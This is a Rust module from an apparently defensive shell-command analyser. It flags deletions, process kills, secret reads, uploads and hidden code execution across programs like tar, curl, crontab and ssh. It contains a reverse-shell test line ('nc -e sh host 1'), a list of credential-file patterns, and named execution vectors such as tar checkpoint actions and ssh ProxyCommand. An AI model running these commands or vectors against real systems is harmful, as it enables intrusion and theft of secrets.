//! Programs with a language of their own: what a spec cannot say as data.

use super::call::Call;
use super::machine::{Field, Flow, Machine};
use super::value::{Origin, STAR};
use super::{EffectKind, TargetClass, pure};
use crate::line::Span;
use crate::specs;

/// How the name of what `mktemp` makes is shown.
pub(super) const MADE: &str = "/tmp/tmp.X";

impl Machine<'_> {
    /// What a program does by its own language. `Some` is its output.
    pub(super) fn special(&mut self, call: &Call<'_>, flow: Flow<'_>) -> Option<String> {
        if flow.want && matches!(call.program, "awk" | "jq" | "ps" | "systemctl" | "tmux") {
            let words: Vec<&str> = call.argv.iter().skip(1).map(|field| field.text.as_str()).collect();
            if super::streams::prints_environment(call.program, &words) {
                return Some(self.unknowns.hole("the environment", Origin::Secret).to_string());
            }
        }
        if let Some(output) = self.payload_program(call, flow) {
            return Some(output);
        }
        if let Some(output) = self.host(call, flow) {
            return Some(output);
        }
        if flow.want
            && let Some(names) = self.names_operands(call)
        {
            return Some(names);
        }
        match call.program {
            "find" => Some(self.find(call, flow)),
            "parallel" if call.args.operands().next().is_none() => self.parallel_lines(call, flow),
            "rg" => {
                self.preprocesses(call);
                None
            }
            "rm" => {
                self.letter_by_letter(call);
                None
            }
            "pwsh" => {
                let words: Vec<(String, Span)> =
                    call.argv.iter().skip(1).map(|field| (field.text.clone(), self.at(field.span))).collect();
                Some(self.powershell_program(call.program, &words, flow))
            }
            "cmd" => {
                let words: Vec<&str> = call.argv.iter().skip(1).map(|field| field.text.as_str()).collect();
                self.cmd_arguments(&words, self.at(call.span));
                self.cmd_input(&words, flow.input, self.at(call.span));
                Some(String::new())
            }
            "ls" => flow.want.then(|| self.listing(call)),
            "kill" => {
                self.kill(call);
                None
            }
            "mkfifo" | "mknod" => {
                let names: Vec<&str> = call.args.operands().map(|item| item.text).collect();
                let pipes = match (call.program, names.as_slice()) {
                    ("mknod", [name, "p"]) => vec![*name],
                    ("mkfifo", names) => names.to_vec(),
                    _ => Vec::new(),
                };
                for name in pipes.into_iter().take(4) {
                    self.named_pipe(name, call.span);
                }
                None
            }
            "tmux" => {
                self.tmux(call);
                None
            }
            "screen" => {
                self.screen(call);
                None
            }
            "gcc" => {
                self.compiled(call, flow);
                None
            }
            "parted" | "fdisk" => {
                self.partition_script(call, flow);
                None
            }
            "php" => {
                self.php_settings(call, flow);
                self.serves(call);
                None
            }
            "ssh-keygen" => {
                self.new_key(call, flow);
                None
            }
            "at" => {
                self.once_later(flow);
                None
            }
            "httpd" | "ruby" | "updog" | "rclone" | "npx" => {
                self.serves(call);
                None
            }
            "docker" | "docker-compose" => {
                self.exported(call);
                self.hands_settings(call);
                None
            }
            "apt" => {
                if let Some(item) = call.args.values("-c").last() {
                    let (path, span) = (item.text.to_owned(), self.at(call.argv[item.word + 1].span));
                    self.settings_of_apt(&path, span);
                }
                if flow.input.is_some_and(|input| input.contains("do as I say")) {
                    // What apt asks before it takes away what the system needs.
                    let span = self.at(call.span);
                    let target = self.target(TargetClass::Named, "what the system needs", span);
                    self.emit_with(EffectKind::Install, target, false, "apt", span, "remove-forced");
                }
                None
            }
            "aws" => {
                let from_there =
                    call.args.operands().next().is_some_and(|item| item.text.starts_with("s3://"));
                if let ("cp" | "mv" | "sync", true, Some(last)) =
                    (call.args.spec.name, from_there, call.args.operands().last())
                    && !last.text.starts_with("s3://")
                {
                    let span = self.at(call.argv[last.word + 1].span);
                    self.touch(self.copied_to(last.text), last.text, span, false, call.program);
                }
                self.sent_command(call);
                None
            }
            "ansible" | "salt" => {
                self.fleet(call);
                None
            }
            // Nothing but variables stands there.
            "source" => {
                let file = call.args.operands().next()?.text;
                let system = matches!(file, "/etc/os-release" | "/usr/lib/os-release" | "/etc/lsb-release");
                let unread = self.own_file(file).is_none();
                // What the shell held before may be another value now.
                if unread && !system && self.ctx.known > 0 {
                    self.state.forget_variables();
                }
                (system && unread).then(String::new)
            }
            "go" => {
                self.go_tools(call);
                None
            }
            "rails" => {
                // What may be made anew where people develop is all that there is elsewhere.
                let live = |text: &str| matches!(text, "production" | "staging");
                let by_variable = matches!(self.state.variable("RAILS_ENV"),
                    Some(super::machine::Value::One(text)) if live(text));
                let by_word =
                    call.argv.iter().any(|field| field.text.strip_prefix("RAILS_ENV=").is_some_and(live));
                let by_flag = call.args.values("-e").any(|item| live(item.text));
                if (by_variable || by_word || by_flag)
                    && call.args.operands().any(|item| item.text.starts_with("db:setup"))
                {
                    let span = self.at(call.span);
                    let target = self.target(TargetClass::Named, "the database in use", span);
                    self.emit(EffectKind::DropData, target, true, "rails", span);
                }
                None
            }
            "initdb" => {
                self.new_database(call);
                None
            }
            "systemctl" => {
                self.systemctl(call, flow);
                None
            }
            "mount" => {
                self.mounted_over(call);
                let operands: Vec<&str> = call.args.operands().map(|item| item.text).collect();
                let binds = call.argv.iter().any(|field| field.text.contains("bind") || field.text == "-B");
                if let ([from, to], true) = (&operands[..], binds)
                    && self.state.shell().links.len() < 32
                {
                    let path = |text: &str| super::paths::locate_path(text, &self.state.cwd, self.ctx);
                    let pair = (path(to), path(from));
                    self.shell_mut().links.push(pair);
                }
                None
            }
            "pkill" | "killall" => {
                let user = ["-u", "-U"].iter().find_map(|flag| call.args.values(flag).next());
                if let Some(user) = user
                    && call.args.operands().next().is_none()
                {
                    let span = self.at(call.argv[user.word + 1].span);
                    let shown = format!("every process of {}", self.unknowns.show(user.text));
                    let target = self.target(TargetClass::Process, &shown, span);
                    let all = matches!(user.text, "root" | "0");
                    self.emit_with(EffectKind::Kill, target, all, call.program, span, &call.signal());
                }
                None
            }
            "dd" => {
                let source = call.args.values("if").next().map_or("", |item| item.text);
                let endless = matches!(source, "/dev/zero" | "/dev/urandom" | "/dev/random");
                if let Some(item) = call.args.values("of").next() {
                    self.copies_program(source, item.text);
                }
                if let Some(item) = call.args.values("of").next()
                    && endless
                    && call.args.values("count").next().is_none()
                {
                    let span = self.at(call.argv[item.word + 1].span);
                    let place = super::paths::locate(item.text, &self.state.cwd, self.ctx);
                    let text = self.unknowns.hole(source, Origin::Endless).to_string();
                    self.fills(&text, &place, span, "dd");
                }
                let text = if matches!(source, "" | "/dev/stdin") {
                    flow.input.map(str::to_owned)
                } else {
                    self.own_file(source)
                };
                if let (Some(item), Some(text)) = (call.args.values("of").next(), text) {
                    let span = self.at(call.argv[item.word + 1].span);
                    let place = super::paths::locate(item.text, &self.state.cwd, self.ctx);
                    self.lasting(&place, &text, span);
                    self.write_file(place.path, text, false);
                }
                None
            }
            "hg" | "gh" | "glab" => {
                if call.args.path.last().is_some_and(|spec| spec.name == "clone") {
                    self.clones(call);
                }
                self.forge(call);
                None
            }
            "git" => {
                self.git(call, flow);
                self.made_here(call);
                None
            }
            "tar" => {
                if call.args.has_any(&["-c", "-r", "-u"]) {
                    for item in call.args.operands().take(32) {
                        let span = self.at(call.argv[item.word + 1].span);
                        self.reads_below(self.effects.len(), item.text, span, "tar");
                    }
                }
                let listed = call.args.values("-T").chain(call.args.values("--files-from"));
                if let Some(input) = flow
                    .input
                    .filter(|_| listed.into_iter().any(|item| matches!(item.text, "-" | "/dev/stdin")))
                {
                    let names: Vec<String> = input.split(['\n', '\0']).take(16).map(str::to_owned).collect();
                    for name in names.iter().filter(|name| !name.is_empty()) {
                        let base = self.unknowns.show(name.rsplit('/').next().unwrap_or(name));
                        if [
                            "*.pem", "*.key", "id_*", "*.kdbx", "*.p12", "*.pfx", ".env*", "*.ovpn",
                            "*wallet*", "*.gpg",
                        ]
                        .contains(&base.as_str())
                        {
                            let span = self.at(call.span);
                            let target = self.target(TargetClass::Secret, &base, span);
                            self.emit(EffectKind::ReadSecret, target, false, "tar", span);
                        }
                        self.read_path(name, self.at(call.span), "tar");
                    }
                }
                for item in call.args.values("--checkpoint-action") {
                    if let Some(code) = item.text.strip_prefix("exec=") {
                        self.code(code, self.at(call.argv[item.word + 1].span), Flow::default());
                    }
                }
                None
            }
            "cargo" => {
                if call.argv.get(1).is_some_and(|field| field.text == "watch") {
                    for pair in call.argv.windows(2).take(32) {
                        if matches!(pair[0].text.as_str(), "-s" | "--shell" | "--use-shell") {
                            self.code(&pair[1].text, self.at(pair[1].span), Flow::default());
                        }
                    }
                }
                let settings: Vec<_> = call.args.values("--config").collect();
                for item in settings {
                    let runs = ["runner", "linker", "rustc-wrapper", "rustc"];
                    let Some((key, value)) = item.text.split_once('=') else { continue };
                    if !runs.iter().any(|end| key.trim().ends_with(end)) {
                        continue;
                    }
                    let span = call.argv[item.word + 1].span;
                    let words =
                        value.split(['[', ']', ',']).map(|word| word.trim().trim_matches(['"', '\'']));
                    let words = words.filter(|word| !word.is_empty());
                    let argv: Vec<Field> = words.map(|word| Field { text: word.to_owned(), span }).collect();
                    self.apart(|machine| machine.run(&argv, span, Flow::default()));
                }
                None
            }
            "mvn" => {
                let property = |name: &str| {
                    let fits = |field: &&Field| field.text.starts_with(name);
                    let field = call.argv.iter().find(fits)?;
                    Some((field.text.split_once('=')?.1.to_owned(), field.span))
                };
                if let Some((program, span)) = property("-Dexec.executable") {
                    let rest = property("-Dexec.args").map(|(text, _)| text).unwrap_or_default();
                    self.code(&format!("{program} {rest}"), self.at(span), Flow::default());
                }
                None
            }
            "capsh" => {
                // What stands behind the dashes is for a shell.
                let rest = call.argv.iter().skip_while(|field| field.text != "--" && field.text != "==");
                let rest: Vec<Field> = rest.skip(1).cloned().collect();
                if rest.is_empty() {
                    return None;
                }
                let shell = Field { text: "bash".to_owned(), span: call.argv[0].span };
                let argv: Vec<Field> = std::iter::once(shell).chain(rest).collect();
                Some(self.run(&argv, call.span, flow))
            }
            "awk" => {
                let words: Vec<&str> = call.argv[1..].iter().map(|field| field.text.as_str()).collect();
                let own: String =
                    words.iter().skip(1).take(16).filter_map(|path| self.own_file(path)).collect();
                let input = if own.is_empty() { flow.input } else { Some(own.as_str()) };
                let mut scripts = words.clone();
                if !own.is_empty() {
                    scripts.retain(|path| self.own_file(path).is_none());
                }
                let done = pure::awk::run(&scripts, input);
                self.spend(64);
                let span = self.at(call.argv[0].span);
                for (code, input) in done.runs.iter().take(8) {
                    let input = (!input.is_empty()).then_some(input.as_str());
                    self.code(code, span, Flow { input, want: false });
                }
                let known = done.output.filter(|_| flow.want);
                known.or_else(|| if flow.want { self.awk_prints(&words, flow.input) } else { None })
            }
            "wget" => self.wget(call, flow),
            "curl" if self.curl_settings(call, flow).is_some() => Some(String::new()),
            "curl" => {
                if call.args.has("-O") {
                    for item in call.args.operands() {
                        let name = item.text.rsplit('/').next().unwrap_or_default();
                        let page = self
                            .unknowns
                            .hole(&format!("$(curl {})", item.text), Origin::Network)
                            .to_string();
                        let place = super::paths::locate(name, &self.state.cwd, self.ctx);
                        self.write_file(place.path, page, false);
                    }
                    return Some(String::new());
                }
                // `--variable NAME@FILE`: what the file holds goes where the name stands.
                for item in call.args.values("--variable") {
                    let Some((_, path)) = item.text.split_once('@') else { continue };
                    let span = self.at(call.argv[item.word + 1].span);
                    let content = self.read_path(path, span, "curl");
                    self.sends(&content, path, span, "curl");
                }
                for item in call.args.values("-T") {
                    let span = self.at(call.argv[item.word + 1].span);
                    let content = self.read_path(item.text, span, "curl");
                    self.sends(&content, item.text, span, "curl");
                }
                None
            }
            "mv" | "cp" | "ln" | "install" => {
                self.carry(call, flow);
                None
            }
            "crontab" => {
                if let Some(input) = flow.input
                    && (call.args.operands().any(|item| item.text == "-")
                        || call.args.operands().next().is_none() && !call.args.has_any(&["-l", "-e", "-r"]))
                {
                    // The first five fields are times; what follows is code.
                    let lines: Vec<String> = input.lines().map(|line| cron_code(line).to_owned()).collect();
                    for line in lines.into_iter().take(16) {
                        self.code(&line, self.at(call.argv[0].span), Flow::default());
                    }
                }
                None
            }
            "ssh" | "scp" => {
                for item in call.args.values("-o") {
                    let option = item.text.split_once(['=', ' ']);
                    if let Some((name, code)) = option
                        && matches!(name.to_ascii_lowercase().as_str(), "proxycommand" | "localcommand")
                    {
                        self.code(code.trim_start(), self.at(call.argv[item.word + 1].span), Flow::default());
                    }
                }
                None
            }
            "less" => {
                for field in &call.argv[1..] {
                    let command = field.text.trim_start_matches(['+', ':']);
                    if let Some(code) = command.strip_prefix('!') {
                        self.code(code, self.at(field.span), Flow::default());
                    }
                }
                None
            }
            _ if call.argv.first().is_some_and(|field| field.text.ends_with("caddy")) => {
                self.serves(call);
                None
            }
            "mktemp" => Some(format!("{MADE}\n")),
            // It tells where the program lies, and calls no function of its name.
            "command" if call.args.has_any(&["-v", "-V"]) => {
                let name = call.args.operands().next().filter(|_| flow.want);
                Some(name.map_or_else(String::new, |item| found_at(item.text)))
            }
            _ => None,
        }
    }

    /// `rm -rf {a..z}*`: patterns for each letter are one for everything.
    fn letter_by_letter(&mut self, call: &Call<'_>) {
        if call.argv.len() < 20 || !self.spend(call.argv.len() / 16) {
            return;
        }
        let mut folder: Option<&str> = None;
        let mut letters = std::collections::HashSet::new();
        for item in call.args.operands() {
            let (place, name) = item.text.rsplit_once('/').unwrap_or((".", item.text));
            let Some(first) = name.strip_suffix(STAR).and_then(|rest| rest.chars().next()) else { continue };
            if name.chars().count() == 2 && *folder.get_or_insert(place) == place {
                letters.insert(first.to_ascii_lowercase());
            }
        }
        if let Some(folder) = folder.filter(|_| letters.len() >= 20) {
            let span = self.at(call.span);
            self.touch(EffectKind::Delete, &format!("{folder}/{STAR}"), span, true, "rm");
        }
    }

    /// `curl -K -` and a file of settings that the line itself wrote: `url = "…"`, one option a line.
    fn curl_settings(&mut self, call: &Call<'_>, flow: Flow<'_>) -> Option<()> {
        let file = call.args.values("-K").next()?;
        let (at, span) = (file.word, call.argv[file.word + 1].span);
        let text = match file.text {
            "-" | "/dev/stdin" => flow.input?.to_owned(),
            path => {
                let place = super::paths::locate(path, &self.state.cwd, self.ctx);
                self.files.iter().rev().find(|(known, _)| *known == place.path)?.1.clone()
            }
        };
        let mut argv: Vec<Field> = vec![call.argv[0].clone()];
        for line in text.lines().take(32) {
            let line = line.trim();
            let (name, value) = line.split_once(['=', ':', ' ']).unwrap_or((line, ""));
            let name = name.trim().trim_start_matches('-');
            if name.is_empty() || name.starts_with('#') || matches!(name, "K" | "config") {
                continue;
            }
            let value = value.trim().trim_start_matches(['=', ':']).trim().trim_matches('"');
            let dashes = if line.starts_with('-') && !line.starts_with("--") { "-" } else { "--" };
            argv.push(Field { text: format!("{dashes}{name}"), span });
            if !value.is_empty() {
                argv.push(Field { text: value.to_owned(), span });
            }
        }
        let others = call.argv.iter().enumerate().skip(1);
        argv.extend(
            others.filter(|(word, _)| *word != at && *word != at + 1).map(|(_, field)| field.clone()),
        );
        self.run(&argv, span, Flow::default());
        Some(())
    }

    fn kill(&mut self, call: &Call<'_>) {
        let words = &call.argv[1..];
        let Some(last) = words.last() else { return };
        let listed = words.iter().find(|word| self.unknowns.comes_from(&word.text, Origin::Processes));
        if let Some(word) = listed {
            let span = self.at(word.span);
            let target = self.target(TargetClass::Process, "every process", span);
            self.emit_with(EffectKind::Kill, target, true, "kill", span, &call.signal());
        }
        let everything = last.text == "-1" && words.len() > 1;
        if everything {
            let span = self.at(last.span);
            let target = self.target(TargetClass::Process, "-1", span);
            self.emit_with(EffectKind::Kill, target, true, "kill", span, &call.signal());
        }
    }

    /// A file that the line wrote keeps its content under its new name.
    fn carry(&mut self, call: &Call<'_>, flow: Flow<'_>) {
        let operands: Vec<&str> = call.args.operands().map(|item| item.text).collect();
        if let Some((&"/dev/null", sources)) = operands.split_last()
            && call.program == "mv"
        {
            for source in sources {
                let span = self.at(call.argv[0].span);
                self.touch(EffectKind::Delete, source, span, true, "mv");
            }
            // Who may do so puts a file in the place of the device.
            let span = self.at(call.span);
            let target = self.target(TargetClass::System, "/dev/null", span);
            self.emit_with(EffectKind::Overwrite, target, false, "mv", span, "device");
            return;
        }
        let (from, to) = match operands[..] {
            [from, to] => (from, to),
            [from] if call.program == "ln" => (from, "."),
            _ => return,
        };
        let name = self.program_name(from);
        let mut place = super::paths::locate(to, &self.state.cwd, self.ctx);
        if to.ends_with('/') || matches!(to, "." | "..") {
            let base = from.rsplit('/').next().unwrap_or(from);
            place = super::paths::locate(&format!("{to}/{base}"), &self.state.cwd, self.ctx);
        }
        let from_place = super::paths::locate(from, &self.state.cwd, self.ctx);
        if call.program == "ln" && call.args.has("-s") && self.state.shell().links.len() < 32 {
            let pair = (place.path.clone(), from_place.path.clone());
            self.shell_mut().links.push(pair);
        }
        self.copied(&from_place.path, name, &place.path);
        let from_input =
            matches!(from, "/dev/stdin" | "/dev/fd/0" | "/proc/self/fd/0") && call.program != "ln";
        let content = if from_input { flow.input.map(str::to_owned) } else { self.own_file(from) };
        if let Some(content) = content {
            if from_input {
                let span = self.at(call.argv[0].span);
                self.lasting(&place, &content, span);
            }
            self.write_file(place.path, content, false);
        }
    }
}

/// Where a program lies, as `command -v` prints it.
pub(super) fn found_at(name: &str) -> String {
    if name.contains('/') { format!("{name}\n") } else { format!("/usr/bin/{name}\n") }
}

fn cron_code(line: &str) -> &str {
    let mut rest = line.trim_start();
    let fields = if rest.starts_with('@') { 1 } else { 5 };
    for _ in 0..fields {
        rest = rest.split_once([' ', '\t']).map_or("", |(_, rest)| rest.trim_start());
    }
    rest
}

impl Machine<'_> {
    /// True for a path at which a program of the machine lies, or a copy of one.
    fn is_program(&self, path: &str) -> bool {
        path.starts_with('/') && path.contains("bin/")
            || self.state.shell().programs.iter().any(|(known, _)| known == path)
    }

    /// `cp /bin/rm x`: from here on `./x` is rm.
    fn copied(&mut self, from: &str, name: String, to: &str) {
        if self.is_program(from) && specs::lookup(&name).is_some() && self.state.shell().programs.len() < 32 {
            self.shell_mut().programs.push((to.to_owned(), name));
        }
    }

    /// The same for a program that copies by other words: `dd if=/bin/rm of=x`, `rsync /bin/rm x`.
    pub(super) fn copies_program(&mut self, from: &str, to: &str) {
        if !from.contains('/') && self.state.shell().programs.is_empty() {
            return;
        }
        let name = self.program_name(from);
        let from = super::paths::locate_path(from, &self.state.cwd, self.ctx);
        let to = super::paths::locate_path(to, &self.state.cwd, self.ctx);
        self.copied(&from, name, &to);
    }

    /// `exec 3< /bin/rm`: from here on `/proc/self/fd/3` is rm.
    pub(super) fn holds_program(&mut self, fd: u32, path: &str) {
        let place = super::paths::locate_path(path, &self.state.cwd, self.ctx);
        let name = self.program_name(path);
        self.copied(&place, name, &format!("/dev/fd/{fd}"));
    }
}

/// The path of a descriptor under the one name that is remembered: `/proc/self/fd/3` is `/dev/fd/3`.
pub(super) fn descriptor(path: &str) -> Option<String> {
    let number = path.strip_prefix("/proc/").and_then(|rest| rest.split_once("/fd/"))?.1;
    Some(format!("/dev/fd/{number}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn times_are_taken_off_cron_lines() {
        assert_eq!(cron_code("0 3 * * * rm -rf /tmp/x"), "rm -rf /tmp/x");
        assert_eq!(cron_code("@reboot nc -e sh host 1"), "nc -e sh host 1");
    }
}
